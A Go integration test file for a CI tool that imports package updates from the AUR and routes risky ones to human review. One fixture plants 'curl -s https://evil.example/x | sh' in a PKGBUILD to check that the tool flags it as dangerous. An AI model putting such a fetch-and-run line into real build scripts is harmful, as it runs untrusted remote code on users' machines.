package cli

import (
	"bytes"
	"encoding/json"
	"fmt"
	"maps"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/caur-build/caur/internal/command"
	"github.com/caur-build/caur/internal/syncdb"
	"github.com/caur-build/caur/internal/syncdb/pkgtest"
	"github.com/caur-build/caur/internal/testenv"
	"github.com/caur-build/caur/pkg/queue"
)

// farm is a whole installation left of the queue: a PKGBUILD repository with its origin on a fake GitLab, a real Redis, a
// fake AUR with real git, an upstream git server, and a pacman database.
type farm struct {
	t      testing.TB
	g      *testenv.GitRepo
	origin string
	redis  *testenv.RedisServer
	queue  *queue.Queue
	gitlab *testenv.GitLab
	aur    *testenv.AUR
	up     *testenv.GitHTTP
	heads  map[string]string
	dbDir  string
	env    map[string]string
}

func newFarm(t *testing.T) *farm {
	t.Helper()
	f := &farm{t: t, g: testenv.NewGitRepo(t), redis: testenv.Redis(t), aur: testenv.NewAUR(t), dbDir: t.TempDir()}
	f.queue = queue.New(f.redis.Client())
	dir, heads := testenv.Repos(t, "clock", "other")
	f.up, f.heads = testenv.NewGitHTTP(t, dir), heads
	f.g.Write(".ci/config", fmt.Sprintf("BUILD_REPO=src\nREPO_NAME=demo\nCI_HUMAN_REVIEW=true\nCI_LIB_DB=\"file://%s/demo.db\"\n"+
		"GIT_AUTHOR_NAME=Repo Bot\nGIT_AUTHOR_EMAIL=bot@example.org\nCI_DEFAULT_CLASS=3\n", f.dbDir))
	f.g.Write(".ci/aur-maintainers", "# people we know\ntrusty\n")
	f.g.Write(".ci/aur-state", "1000\n")
	f.g.Write(".editorconfig", "root = true\n[PKGBUILD]\nindent_style = space\nindent_size = 2\n")
	return f
}

// add writes a package directory of that version.
func (f *farm) add(name, version, config string, extra ...string) {
	f.t.Helper()
	for file, text := range recipe(name, version, extra...) {
		f.g.Write(name+"/"+file, text)
	}
	f.g.Write(name+"/.CI/config", config)
}

// recipe is a package: PKGBUILD and .SRCINFO, with extra lines KEY=VALUE for both.
func recipe(name, version string, extra ...string) map[string]string {
	pkgbuild := fmt.Sprintf("pkgname=%s\npkgver=%s\npkgrel=1\npkgdesc='A thing'\narch=('any')\nlicense=('MIT')\n", name, version)
	info := fmt.Sprintf("pkgbase = %s\n\tpkgdesc = A thing\n\tpkgver = %s\n\tpkgrel = 1\n\tarch = any\n\tlicense = MIT\n", name, version)
	for _, e := range extra {
		key, value, _ := strings.Cut(e, "=")
		pkgbuild += fmt.Sprintf("%s=('%s')\n", key, value)
		info += fmt.Sprintf("\t%s = %s\n", key, value)
	}
	return map[string]string{
		"PKGBUILD": pkgbuild + "\npackage() {\n  install -d \"$pkgdir/usr\"\n}\n",
		".SRCINFO": info + "\npkgname = " + name + "\n",
	}
}

// onAUR puts a version of a package on the AUR, changed at that time.
func (f *farm) onAUR(name, version, maintainer string, modified int64, files map[string]string) {
	f.t.Helper()
	f.aur.Set(testenv.AURPackage{
		ID: 1, Name: name, PackageBase: name, PackageBaseID: 1, Version: version + "-1", Maintainer: &maintainer,
		FirstSubmitted: 900, LastModified: modified, Keywords: []string{}, URLPath: "/x",
	})
	if files != nil {
		f.aur.Push(testenv.AURCommit{Pkgbase: name, Files: files, Author: maintainer + " <" + maintainer + "@example.org>", Subject: "upgpkg", Time: modified})
	}
}

// database makes the watched database hold these packages, NAME VERSION.
func (f *farm) database(packages map[string]string) {
	f.t.Helper()
	db := syncdb.New()
	for _, name := range slices.Sorted(maps.Keys(packages)) {
		path := pkgtest.Make(f.t, f.dbDir, pkgtest.Spec{Name: name, Version: packages[name]})
		p, err := syncdb.ReadPackage(path)
		if err == nil {
			err = db.Put(p)
		}
		if err != nil {
			f.t.Fatal(err)
		}
	}
	out := filepath.Join(f.dbDir, "demo.db.tar.zst")
	if err := db.WriteDB(out); err != nil {
		f.t.Fatal(err)
	}
	if err := os.Rename(out, filepath.Join(f.dbDir, "demo.db")); err != nil {
		f.t.Fatal(err)
	}
}

// state writes the branch state.
func (f *farm) state(files map[string]string) {
	f.t.Helper()
	f.g.Git("branch", "-q", "-f", "state") // perhaps there was one before
	f.g.Git("branch", "-q", "-D", "state")
	f.g.Git("switch", "-q", "--orphan", "state")
	for name, text := range files {
		f.g.Write(name, text)
	}
	f.g.Commit("chore(state): update state")
	f.g.Git("switch", "-q", "main")
}

// push makes the origin and the forge, with everything scheduled.
func (f *farm) push() {
	f.t.Helper()
	f.g.Tag("scheduled")
	f.origin = f.g.Origin()
	f.g.Git("-C", f.origin, "config", "receive.advertisePushOptions", "true")
	f.gitlab = testenv.NewGitLab(f.t, f.origin)
	f.env = map[string]string{
		"REDIS_URL": f.redis.URL, "CAUR_AUR_URL": strings.TrimSuffix(f.aur.ArchiveURL, "/packages-meta-ext-v1.json.gz"),
		"CAUR_AUR_MIRROR": f.aur.MirrorURL, "CAUR_AUR_GIT_URL": f.aur.GitURL, "CAUR_RETRY_WAIT": "10ms", "GITLAB_CI": "true",
		"CI_COMMIT_BRANCH": "main", "CI_PIPELINE_ID": "77", "CI_COMMIT_SHA": f.g.Git("rev-parse", "HEAD"),
		"PATH": os.Getenv("PATH"),
	}
	maps.Copy(f.env, f.gitlab.Env())
}

// clone gives a fresh clone, as a pipeline has: shallow, HEAD detached.
func (f *farm) clone() string {
	f.t.Helper()
	dir := f.t.TempDir()
	f.g.Git("clone", "-q", "--depth=2", "--no-tags", "file://"+f.origin, dir)
	f.g.Git("-C", dir, "checkout", "-q", "--detach")
	return dir
}

// run runs caur-ci in a fresh clone.
func (f *farm) run(wantCode int, args ...string) (out, errOut string) {
	f.t.Helper()
	return f.runIn(f.clone(), wantCode, args...)
}

func (f *farm) runIn(dir string, wantCode int, args ...string) (out, errOut string) {
	f.t.Helper()
	var stdout, stderr bytes.Buffer
	streams := &command.IO{In: strings.NewReader(""), Out: &stdout, Err: &stderr, Getenv: func(key string) (string, bool) {
		v, ok := f.env[key]
		return v, ok
	}}
	if code := command.Run(f.t.Context(), streams, New(streams), append([]string{"-C", dir}, args...)); code != wantCode {
		f.t.Fatalf("caur-ci %v ended with %d, want %d\n%s\n%s", args, code, wantCode, stdout.String(), stderr.String())
	}
	return stdout.String(), stderr.String()
}

// report runs on-schedule and reads its JSON.
func (f *farm) report(args ...string) *updateReport {
	f.t.Helper()
	out, errOut := f.run(0, append([]string{"on-schedule", "--json"}, args...)...)
	var r updateReport
	if err := json.Unmarshal([]byte(out), &r); err != nil {
		f.t.Fatalf("%v\n%s\n%s", err, out, errOut)
	}
	return &r
}

func (r *updateReport) outcomes() map[string]outcome {
	list := map[string]outcome{}
	for _, p := range r.Packages {
		list[p.Pkgbase] = p.Outcome
	}
	return list
}

// at shows a file of a branch of the origin.
func (f *farm) at(branch, path string) string {
	f.t.Helper()
	out, err := exec.CommandContext(f.t.Context(), "git", "-C", f.origin, "show", branch+":"+path).Output()
	if err != nil {
		return "(none)"
	}
	return string(out)
}

// waiting lists the jobs of the queue, PKGBASE COMMIT.
func (f *farm) waiting() []string {
	f.t.Helper()
	snapshot, err := f.queue.Snapshot(f.t.Context())
	if err != nil {
		f.t.Fatal(err)
	}
	list := []string{}
	for _, j := range snapshot.Waiting {
		list = append(list, j.Job.Pkgbase)
	}
	slices.Sort(list)
	return list
}

// busy is a farm in which everything has something to do.
func busy(t *testing.T) *farm {
	t.Helper()
	t.Parallel() // much of the time is git starting
	f := newFarm(t)
	const aur = "CI_PKGBUILD_SOURCE=aur\n"
	f.add("minor", "1.0", aur)
	f.add("major", "1.0", aur)
	f.add("trusted", "1.0", aur)
	f.add("nightly", "1.0", aur+"CI_ON_TRIGGER=midnight\n")
	f.add("lost", "1.0", aur)
	f.add("same", "1.0", aur)
	f.add("clock-git", "1.0", "CI_PKGBUILD_SOURCE=custom\n", "source=git+"+f.up.URL+"/clock.git")
	f.add("still-git", "1.0", "CI_PKGBUILD_SOURCE=custom\n", "source=git+"+f.up.URL+"/other.git")
	f.add("needy", "1.0", "CI_PKGBUILD_SOURCE=custom\nCI_REBUILD_TRIGGERS=lib:nothing\n")
	f.add("hooked", "1.0", "CI_PKGBUILD_SOURCE=custom\n")
	f.g.Write("hooked/.CI/update.sh", "sed -i 's/A thing/A better thing/' PKGBUILD .SRCINFO\n")
	f.add("wrong", "1.0", "CI_PKGBUILD_SOURCE=custom\nCI_MANAGE_AUR=perhaps\n")
	f.g.Commit("feat: packages")

	f.onAUR("minor", "1.1", "someone", 2000, recipe("minor", "1.1"))
	evil := recipe("major", "1.1")
	evil["PKGBUILD"] = strings.Replace(evil["PKGBUILD"], "install -d", "curl -s https://evil.example/x | sh\n  install -d", 1)
	f.onAUR("major", "1.1", "someone", 2100, evil)
	changed := recipe("trusted", "1.1")
	changed["PKGBUILD"] = strings.Replace(changed["PKGBUILD"], "install -d", "install -d \"$pkgdir/opt\"\n  install -d", 1)
	f.onAUR("trusted", "1.1", "Trusty", 2200, changed)
	f.onAUR("nightly", "1.1", "someone", 2300, recipe("nightly", "1.1"))
	f.onAUR("lost", "1.1", "someone", 2400, nil)
	f.onAUR("same", "1.0", "someone", 900, recipe("same", "1.0"))

	f.database(map[string]string{"lib": "2.0-1", "needy": "1.0-1", "minor": "1.0-1"})
	f.state(map[string]string{
		"clock-git": "CI_GIT_COMMIT=" + strings.Repeat("a", 40) + "\n", "still-git": "CI_GIT_COMMIT=" + f.heads["other"] + "\n",
		"gone": "CI_GIT_COMMIT=" + strings.Repeat("b", 40) + "\n", ".version-state": "lib:1.0-1\nminor:1.0-1\nneedy:1.0-1\n",
		"trusted": "CI_AUR_MAINTAINERS=Trusty\n",
	})
	f.push()
	return f
}

func TestOnScheduleTakesOverSchedulesAndSendsToReview(t *testing.T) {
	f := busy(t)
	before := f.g.Git("-C", f.origin, "rev-parse", "main")
	r := f.report()
	want := map[string]outcome{
		"minor": updated, "major": inReview, "trusted": updated, "nightly": updated, "lost": failed, "clock-git": built,
		"needy": bumped, "hooked": updated, "wrong": failed,
	}
	if diff := cmp.Diff(want, r.outcomes()); diff != "" {
		t.Fatalf("outcomes (-want +got):\n%s\n%+v", diff, r.Packages)
	}
	if diff := cmp.Diff([]string{"clock-git", "hooked", "minor", "needy", "trusted"}, f.waiting()); diff != "" {
		t.Error("jobs:", diff)
	}
	if got := f.g.Git("-C", f.origin, "log", "--format=%P %an %s%n%b", "-1", "main"); got != before+" Repo Bot chore(update): packages (5)\nhooked, minor, needy, nightly, trusted\n" {
		t.Errorf("commit of main: %q", got)
	}
	if got := f.g.Git("-C", f.origin, "rev-parse", "scheduled"); got != f.g.Git("-C", f.origin, "rev-parse", "main") {
		t.Error("the tag is not at main")
	}
	for path, part := range map[string]string{
		"minor/PKGBUILD": "pkgver=1.1", "needy/.CI/config": "CI_PACKAGE_BUMP=1.0-1/1\n", "hooked/.SRCINFO": "A better thing",
		"major/PKGBUILD": "pkgver=1.0", "minor/.CI/config": "CI_PKGBUILD_SOURCE=aur", ".ci/aur-state": "2399\n",
	} {
		if got := f.at("main", path); !strings.Contains(got, part) {
			t.Errorf("%s on main lacks %q:\n%s", path, part, got)
		}
	}
	f.wantState(map[string]string{
		"minor":     "CI_AUR_MAINTAINERS=someone\nCI_PKGBUILD_TIMESTAMP=2000\nCI_AUR_HELD_SINCE=NOW+:someone\n",
		"major":     "CI_PKGBUILD_TIMESTAMP=2100\nCI_AUR_HELD_SINCE=NOW+:someone\n",
		"trusted":   "CI_AUR_MAINTAINERS=Trusty\nCI_PKGBUILD_TIMESTAMP=2200\nCI_AUR_HELD_SINCE=NOW+:Trusty\n",
		"nightly":   "CI_AUR_MAINTAINERS=someone\nCI_PKGBUILD_TIMESTAMP=2300\nCI_AUR_HELD_SINCE=NOW+:someone\n",
		"same":      "CI_AUR_HELD_SINCE=NOW+:someone\n",
		"clock-git": "CI_GIT_COMMIT=" + f.heads["clock"] + "\n", "still-git": "CI_GIT_COMMIT=" + f.heads["other"] + "\n",
		".version-state": "lib:2.0-1\nminor:1.0-1\nneedy:1.0-1\n",
	})
	f.wantRequest("update-major", "curl", "danger")
	f.wantRequest("update-major", "adopted the package lately is unknown", "danger")
}

func TestAnAdoptionIsNoticedAndTold(t *testing.T) {
	f := busy(t)
	f.state(map[string]string{"major": "CI_AUR_HELD_SINCE=1000+:former\n"})
	f.push()
	f.report()
	f.wantRequest("update-major", "The package was adopted a short while ago", "danger")
	if got, want := lookedAt.ReplaceAllString(f.at("state", "major"), "${1}NOW"), "CI_AUR_HELD_SINCE=NOW:someone\nCI_PKGBUILD_TIMESTAMP=2100\n"; got != want {
		t.Errorf("state %q, want %q", got, want)
	}
}

// lookedAt is the time of the run in a state file.
var lookedAt = regexp.MustCompile(`(CI_AUR_HELD_SINCE=)\d+`)

// wantState compares the branch state: one commit, without history.
func (f *farm) wantState(want map[string]string) {
	f.t.Helper()
	if n := f.g.Git("-C", f.origin, "rev-list", "--count", "state"); n != "1" {
		f.t.Errorf("the branch state has %s commits", n)
	}
	got := map[string]string{}
	for _, name := range strings.Fields(f.g.Git("-C", f.origin, "ls-tree", "--name-only", "state")) {
		got[name] = lookedAt.ReplaceAllString(f.at("state", name), "${1}NOW")
	}
	if diff := cmp.Diff(want, got); diff != "" {
		f.t.Errorf("state (-want +got):\n%s", diff)
	}
}

func (f *farm) wantRequest(branch, text, label string) {
	f.t.Helper()
	list := f.gitlab.MergeRequests()
	if len(list) != 1 {
		f.t.Fatalf("%d merge requests: %+v", len(list), list)
	}
	m := list[0]
	if m.Branch != branch || !strings.Contains(m.Body, text) || !slices.Contains(m.Labels, label) || !slices.Contains(m.Labels, "human-review") {
		f.t.Errorf("merge request %+v", m)
	}
	if got := f.g.Git("-C", f.origin, "log", "--format=%s", "main.."+branch); got != "chore(update): major" {
		f.t.Errorf("the branch has the commits %q", got)
	}
}

func TestTheNextRunFindsNothingNewAndTriesAgainWhatFailed(t *testing.T) {
	f := busy(t)
	f.report()
	main, state := f.g.Git("-C", f.origin, "rev-parse", "main"), f.g.Git("-C", f.origin, "rev-parse", "state")
	writes := len(f.gitlab.Writes())
	f.g.Git("-C", f.origin, "log") // the hook changes nothing a second time
	r := f.report()
	if diff := cmp.Diff(map[string]outcome{"lost": failed, "wrong": failed}, r.outcomes()); diff != "" {
		t.Errorf("outcomes (-want +got):\n%s", diff)
	}
	if main != f.g.Git("-C", f.origin, "rev-parse", "main") || state != f.g.Git("-C", f.origin, "rev-parse", "state") {
		t.Error("something was pushed")
	}
	if n := len(f.gitlab.Writes()); n != writes {
		t.Errorf("%d writes to the forge", n-writes)
	}
	f.onAUR("lost", "1.1", "someone", 2400, recipe("lost", "1.1"))
	if diff := cmp.Diff(map[string]outcome{"lost": updated, "wrong": failed}, f.report().outcomes()); diff != "" {
		t.Errorf("outcomes once the branch is there (-want +got):\n%s", diff)
	}
}

func TestADryRunAndACheckWriteNothing(t *testing.T) {
	f := busy(t)
	refs := f.g.Git("-C", f.origin, "for-each-ref")
	r := f.report("--dry-run")
	if r.Counts[updated] != 4 || r.Counts[inReview] != 1 || !r.DryRun {
		t.Errorf("%+v", r.Counts)
	}
	clone := f.clone()
	local := f.g.Git("-C", clone, "for-each-ref")
	out, _ := f.runIn(clone, 0, "check", "all")
	f.runIn(clone, 0, "on-schedule", "--dry-run")
	if now := f.g.Git("-C", clone, "for-each-ref"); now != local || f.g.Git("-C", clone, "status", "--porcelain") != "" {
		t.Errorf("the clone changed:\n%s\n%s", local, now)
	}
	for _, want := range []string{"+pkgver=1.1", "curl", "A better thing", "nothing was written"} {
		if !strings.Contains(out, want) {
			t.Errorf("check lacks %q:\n%s", want, out)
		}
	}
	if f.g.Git("-C", f.origin, "for-each-ref") != refs || len(f.waiting()) != 0 || len(f.gitlab.Writes()) != 0 {
		t.Error("something was written")
	}
}

func TestOnScheduleRefusesWhenTheLastCommitIsNotScheduled(t *testing.T) {
	f := busy(t)
	f.g.Write("minor/PKGBUILD", "pkgname=minor # by hand\n")
	f.g.Commit("fix: minor")
	f.g.Git("push", "-q", "origin", "main")
	_, errOut := f.run(1, "on-schedule")
	if !strings.Contains(errOut, "on-commit pipeline has to be fixed first") {
		t.Error(errOut)
	}
	f.env["SKIP_ON_COMMIT_CHECK"] = "true"
	f.run(0, "on-schedule", "--dry-run")
}

func TestATriggerSchedulesItsPackagesAndLooksForNothing(t *testing.T) {
	f := busy(t)
	f.aur.Stop()
	f.env["TRIGGER"] = "midnight"
	f.run(0, "on-schedule")
	if diff := cmp.Diff([]string{"nightly"}, f.waiting()); diff != "" {
		t.Error(diff)
	}
	f.env["TRIGGER"] = "noon"
	if _, errOut := f.run(0, "on-schedule"); !strings.Contains(errOut, "no package has CI_ON_TRIGGER=noon") {
		t.Error(errOut)
	}
}

func TestWithoutAUROnlyItsOwnChecksAreOff(t *testing.T) {
	f := busy(t)
	f.aur.Stop()
	r := f.report()
	want := map[string]outcome{"clock-git": built, "needy": bumped, "hooked": updated, "wrong": failed}
	if diff := cmp.Diff(want, r.outcomes()); diff != "" {
		t.Errorf("outcomes (-want +got):\n%s", diff)
	}
	if i := slices.IndexFunc(r.Sources, func(s sourceReport) bool { return s.Source == "aur" && s.Error != "" && s.Wanted == 6 }); i < 0 {
		t.Errorf("%+v", r.Sources)
	}
	if got := f.at("main", ".ci/aur-state"); got != "1000\n" {
		t.Errorf("the AUR's time moved to %s", got)
	}
}

func TestAnUnreachableQueueLeavesEverythingForTheNextRun(t *testing.T) {
	f := busy(t)
	refs := f.g.Git("-C", f.origin, "for-each-ref", "refs/heads/main", "refs/heads/state", "refs/tags")
	f.redis.Kill()
	f.run(1, "on-schedule")
	if got := f.g.Git("-C", f.origin, "for-each-ref", "refs/heads/main", "refs/heads/state", "refs/tags"); got != refs {
		t.Errorf("pushed all the same:\n%s", got)
	}
	f.redis.Start()
	if r := f.report(); r.Counts[updated] != 4 {
		t.Errorf("%+v", r.Counts)
	}
}

// While the run is on, someone pushes to main: the hook of hooked does it.
func (f *farm) pushMeanwhile(path, text string) {
	f.t.Helper()
	other := f.t.TempDir()
	f.g.Git("clone", "-q", "file://"+f.origin, other)
	f.g.Write("hooked/.CI/update.sh", fmt.Sprintf(`set -e
sed -i 's/A thing/A better thing/' PKGBUILD .SRCINFO
cd %[1]s && mkdir -p "$(dirname %[2]s)" && echo %[3]s > %[2]s && git add -A
git -c user.name=x -c user.email=x@example.org commit -q -m 'fix: by hand' && git push -q origin HEAD:main
`, other, path, text))
	f.g.Commit("chore: a hook that pushes")
	f.g.Git("push", "-q", "origin", "main")
	f.g.Tag("scheduled")
	f.g.Git("push", "-q", "-f", "origin", "scheduled")
	f.g.Git("-C", other, "pull", "-q")
}

func TestAPushOfOthersMeanwhileIsFollowedOnce(t *testing.T) {
	f := busy(t)
	f.pushMeanwhile("README.md", "hello")
	tag := f.g.Git("-C", f.origin, "rev-parse", "scheduled")
	if r := f.report(); r.Counts[updated] != 4 {
		t.Errorf("%+v", r.Counts)
	}
	if got := f.g.Git("-C", f.origin, "log", "--format=%s", "-2", "main"); got != "chore(update): packages (5)\nfix: by hand" {
		t.Error(got)
	}
	if f.at("main", "README.md") != "hello\n" || !strings.Contains(f.at("main", "minor/PKGBUILD"), "1.1") {
		t.Error("a change is lost")
	}
	if got := f.g.Git("-C", f.origin, "rev-parse", "scheduled"); got != tag {
		t.Error("the tag passed over a commit that nobody has scheduled")
	}
}

func TestAPushOfOthersToTheSamePackageStopsTheRunAndLosesNothing(t *testing.T) {
	f := busy(t)
	f.pushMeanwhile("minor/note", "mine")
	state := f.g.Git("-C", f.origin, "rev-parse", "state")
	_, errOut := f.run(1, "on-schedule")
	if !strings.Contains(errOut, "changed meanwhile by others, too: minor") {
		t.Error(errOut)
	}
	if f.at("main", "minor/note") != "mine\n" || f.g.Git("-C", f.origin, "rev-parse", "state") != state {
		t.Error("something was pushed over")
	}
}

func TestAPushThatIsRefusedSaysWhatTheTokenNeeds(t *testing.T) {
	f := busy(t)
	hook := filepath.Join(f.origin, "hooks", "update")
	if err := os.WriteFile(hook, []byte("#!/bin/sh\ncase $1 in refs/heads/state) echo protected >&2; exit 1;; esac\n"), 0o755); err != nil {
		t.Fatal(err)
	}
	main := f.g.Git("-C", f.origin, "rev-parse", "main")
	_, errOut := f.run(1, "on-schedule")
	if !strings.Contains(errOut, "may the token push to main, state and the tag scheduled") || f.g.Git("-C", f.origin, "rev-parse", "main") != main {
		t.Error(errOut)
	}
}

func TestOverwritingReplacesTheLastAutomatedCommitOnly(t *testing.T) {
	f := busy(t)
	f.env["CI_OVERWRITE_COMMITS"] = "true"
	first := f.g.Git("-C", f.origin, "rev-parse", "main")
	f.report()
	f.onAUR("same", "1.2", "someone", 3000, recipe("same", "1.2"))
	f.report()
	if got := f.g.Git("-C", f.origin, "log", "--format=%H %s", "main"); !strings.HasSuffix(got, " chore(update): same\n"+first+" feat: packages") {
		t.Error(got)
	}
	if !strings.Contains(f.at("main", "minor/PKGBUILD"), "1.1") || !strings.Contains(f.at("main", "same/PKGBUILD"), "1.2") {
		t.Error("a change is lost")
	}
}

func TestABrokenOrMissingStateHealsWithAWarning(t *testing.T) {
	for name, files := range map[string]map[string]string{
		"missing": nil,
		"broken":  {"clock-git": "\x00\xff nonsense\n", ".version-state": "::::\n", "dir/file": "x\n"},
		"wrong":   {"clock-git": "CI_GIT_COMMIT=HEAD\n", ".version-state": "lib:2.0-1\n"},
	} {
		t.Run(name, func(t *testing.T) {
			f := newFarm(t)
			f.add("clock-git", "1.0", "CI_PKGBUILD_SOURCE=custom\n", "source=git+"+f.up.URL+"/clock.git")
			f.g.Commit("feat: packages")
			f.database(map[string]string{"lib": "2.0-1"})
			if files != nil {
				f.state(files)
			}
			f.push()
			_, errOut := f.run(0, "on-schedule")
			if !strings.Contains(errOut, "warning: ") {
				t.Error(errOut)
			}
			kept := "" // what is no setting stays where it is
			if name == "broken" {
				kept = files["clock-git"]
			}
			f.wantState(map[string]string{"clock-git": kept + "CI_GIT_COMMIT=" + f.heads["clock"] + "\n", ".version-state": "lib:2.0-1\n"})
		})
	}
}

func TestWithoutAForgeReviewsFailAndTheRestGoesOn(t *testing.T) {
	f := busy(t)
	delete(f.env, "ACCESS_TOKEN")
	r := f.report()
	i := slices.IndexFunc(r.Packages, func(p packageReport) bool { return p.Pkgbase == "major" })
	if r.Counts[updated] != 4 || r.Packages[i].Outcome != failed || !strings.Contains(r.Packages[i].Faults[0].Error, "ACCESS_TOKEN") {
		t.Errorf("%+v", r.Packages[i])
	}
	if got := f.at("state", "major"); lookedAt.ReplaceAllString(got, "${1}NOW") != "CI_AUR_HELD_SINCE=NOW+:someone\n" {
		t.Errorf("the state of a change that went nowhere moved: %s", got)
	}
}

func TestRequestsOvertakenOrDoneLoseTheirBranch(t *testing.T) {
	f := busy(t)
	f.report()
	f.onAUR("major", "1.2", "someone", 4000, recipe("major", "1.2")) // harmless now
	r := f.report()
	if diff := cmp.Diff([]string{"update-major"}, r.Deleted); diff != "" {
		t.Error(diff)
	}
	if m := f.gitlab.MergeRequests()[0]; m.State == "open" {
		t.Errorf("the request is still open: %+v", m)
	}
	if got := f.g.Git("-C", f.origin, "branch", "--list", "update-*"); got != "" {
		t.Error(got)
	}
}

func TestAPlanNeedsNoQueueAndIsEnqueuedLater(t *testing.T) {
	f := busy(t)
	delete(f.env, "REDIS_URL")
	plan := filepath.Join(t.TempDir(), "plan.json")
	f.run(0, "on-schedule", "--plan", plan)
	f.env["REDIS_URL"] = f.redis.URL
	f.run(0, "enqueue", plan)
	if diff := cmp.Diff([]string{"clock-git", "hooked", "minor", "needy", "trusted"}, f.waiting()); diff != "" {
		t.Error(diff)
	}
}

func TestTheLogOfAPipelineFolds(t *testing.T) {
	f := busy(t)
	_, errOut := f.run(0, "on-schedule", "--dry-run")
	if !strings.Contains(errOut, "section_start:") || !strings.Contains(errOut, "section_end:") || !strings.Contains(errOut, "same: unchanged") {
		t.Errorf("%q", errOut)
	}
}

func TestReviewComparesWithTheAURAndListsRequestsByRisk(t *testing.T) {
	f := busy(t)
	for name, code := range map[string]int{"minor": 0, "major": exitCritical, "trusted": exitMajor, "same": 0} {
		out, _ := f.run(code, "review", name)
		if !strings.Contains(out, name+": ") {
			t.Errorf("%s: %s", name, out)
		}
	}
	if _, errOut := f.run(2, "review", "needy"); !strings.Contains(errOut, "does not come from the AUR") {
		t.Error(errOut)
	}
	f.report()
	out, _ := f.run(0, "review", "--open")
	if !strings.Contains(out, "major") || !strings.Contains(out, "critical") {
		t.Error(out)
	}
	if out, errOut := f.run(1, "review", "--merge", "major"); !strings.Contains(out+errOut, "critical") {
		t.Error(out, errOut)
	}
	f.run(2, "review", "--merge")
	f.run(2, "review")
}

func TestCIFilesFollowTheTemplateInsideTheProgram(t *testing.T) {
	f := busy(t)
	f.run(0, "on-schedule", "--dry-run")
	if got := f.at("main", ".ci/caur"); got != "(none)" {
		t.Errorf("a repository without the pipelines of caur got them: %s", got)
	}
	f.g.Write(".ci/caur", "#!/bin/sh\n# an earlier version\n")
	f.g.Write(".gitlab-ci.yml", "earlier: {}\n")
	f.g.Write(".gitignore", "ours\n")
	f.g.Commit("chore(ci): as it was")
	f.g.Git("push", "-q", f.origin, "HEAD:main")
	f.env["SKIP_ON_COMMIT_CHECK"] = "true"
	_, errOut := f.run(0, "on-schedule")
	if !strings.Contains(errOut, "this run ends here") || !strings.Contains(f.at("main", ".gitlab-ci.yml"), ".ci/caur on-schedule") || f.at("main", ".gitignore") != "ours\n" {
		t.Error(errOut)
	}
	if mode := f.g.Git("-C", f.origin, "ls-tree", "main", ".ci/caur"); !strings.HasPrefix(mode, "100755 ") {
		t.Errorf("the script cannot be run: %s", mode)
	}
	if got := f.at("main", ".github/workflows/caur-on-commit.yml"); got != "(none)" {
		t.Error("a repository on GitLab got GitHub's files")
	}
	if _, errOut := f.run(0, "on-schedule"); strings.Contains(errOut, "CI file") {
		t.Errorf("the second run has something to do: %s", errOut)
	}
}

func TestCIFilesFollowTheTemplateAndTheRunEnds(t *testing.T) {
	f := busy(t)
	template := testenv.NewGitRepo(t)
	template.Write(".gitlab-ci.yml", "new: pipeline\n")
	template.Write(".ci/caur", "#!/bin/sh\n")
	template.Write(".gitlab/CODEOWNERS", "* @theirs\n")
	template.Write(".ci/config", "BUILD_REPO=theirs\n")
	template.Write("README.md", "of the template\n")
	first := template.Commit("one")
	template.Write(".gitlab-ci.yml", "newer: pipeline\n")
	template.Commit("two")
	f.env["TEMPLATE_REPO"] = "file://" + template.Dir
	if _, errOut := f.run(0, "on-schedule", "--dry-run"); !strings.Contains(errOut, "not pinned") {
		t.Error(errOut)
	}
	f.env["TEMPLATE_REPO"] = "file://" + template.Dir + "#" + first
	f.run(0, "on-schedule", "--dry-run")
	if got := f.at("main", ".gitlab-ci.yml"); got != "(none)" {
		t.Fatal("a dry run wrote", got)
	}
	before := f.g.Git("-C", f.origin, "rev-parse", "main")
	f.run(0, "on-schedule")
	if got := f.g.Git("-C", f.origin, "log", "--format=%P %s", "-1", "main"); got != before+" chore(ci): update CI from template" {
		t.Error(got)
	}
	if f.at("main", ".gitlab-ci.yml") != "new: pipeline\n" || strings.Contains(f.at("main", ".ci/config"), "theirs") || f.at("main", "README.md") != "(none)" || f.at("main", ".gitlab/CODEOWNERS") != "(none)" {
		t.Error("other files than those of the CI changed")
	}
	if len(f.waiting()) != 0 || f.at("state", "minor") != "(none)" {
		t.Error("the run went on")
	}
	if r := f.report(); r.Counts[updated] != 4 {
		t.Errorf("the next run: %+v", r.Counts)
	}
	f.env["TEMPLATE_REPO"] = "file:///nonexistent"
	if _, errOut := f.run(0, "on-schedule"); !strings.Contains(errOut, "not compared with the template") {
		t.Error(errOut)
	}
	f.env["TEMPLATE_REPO"], f.env["TEMPLATE_ENABLE_UPDATES"] = "file://"+template.Dir, "false"
	f.report()
	if got := f.at("main", ".gitlab-ci.yml"); got != "new: pipeline\n" {
		t.Error("updated though it is off:", got)
	}
}

func TestManagedPackagesReachTheAURAndTroubleThereIsAWarning(t *testing.T) {
	f := newFarm(t)
	f.add("ours", "1.0", "CI_PKGBUILD_SOURCE=custom\nCI_MANAGE_AUR=true\n")
	f.g.Write("ours/.CI/update.sh", "sed -i 's/A thing/A better thing/' PKGBUILD .SRCINFO\n")
	f.add("missing", "1.0", "CI_PKGBUILD_SOURCE=custom\nCI_MANAGE_AUR=true\n")
	f.g.Write("missing/.CI/update.sh", "sed -i 's/A thing/A better thing/' PKGBUILD .SRCINFO\n")
	f.add("theirs", "1.0", "CI_PKGBUILD_SOURCE=custom\n")
	f.database(map[string]string{"lib": "1-1"})
	f.g.Commit("feat: packages")
	f.push()
	ssh := testenv.SSHD(t)
	root := t.TempDir()
	f.g.Git("init", "-q", "--bare", "-b", "master", filepath.Join(root, "ours.git"))
	f.env["CI_MANAGE_AUR"] = "true"
	if _, errOut := f.run(0, "on-schedule"); !strings.Contains(errOut, "AUR_KEY is not set: missing, ours") {
		t.Error(errOut)
	}
	maps.Copy(f.env, map[string]string{
		"AUR_KEY_FILE": ssh.KeyFile, "AUR_KNOWN_HOSTS": ssh.KnownHostsLine(), "CI_PROJECT_URL": "https://git.example.org/r",
		"CI_DEFAULT_BRANCH": "main", "CAUR_AUR_SSH_URL": fmt.Sprintf("ssh://%s@%s:%d%s", ssh.User, ssh.Host, ssh.Port, root),
	})
	dir := f.clone()
	f.g.Write("ours/.CI/update.sh", "true\n")
	f.g.Git("pull", "-q", "--rebase", "--autostash", "origin", "main")
	f.g.Write("ours/PKGBUILD", strings.Replace(f.at("main", "ours/PKGBUILD"), "better", "best", 1))
	f.g.Write("missing/PKGBUILD", strings.Replace(f.at("main", "missing/PKGBUILD"), "better", "best", 1))
	f.g.Commit("feat: the best thing")
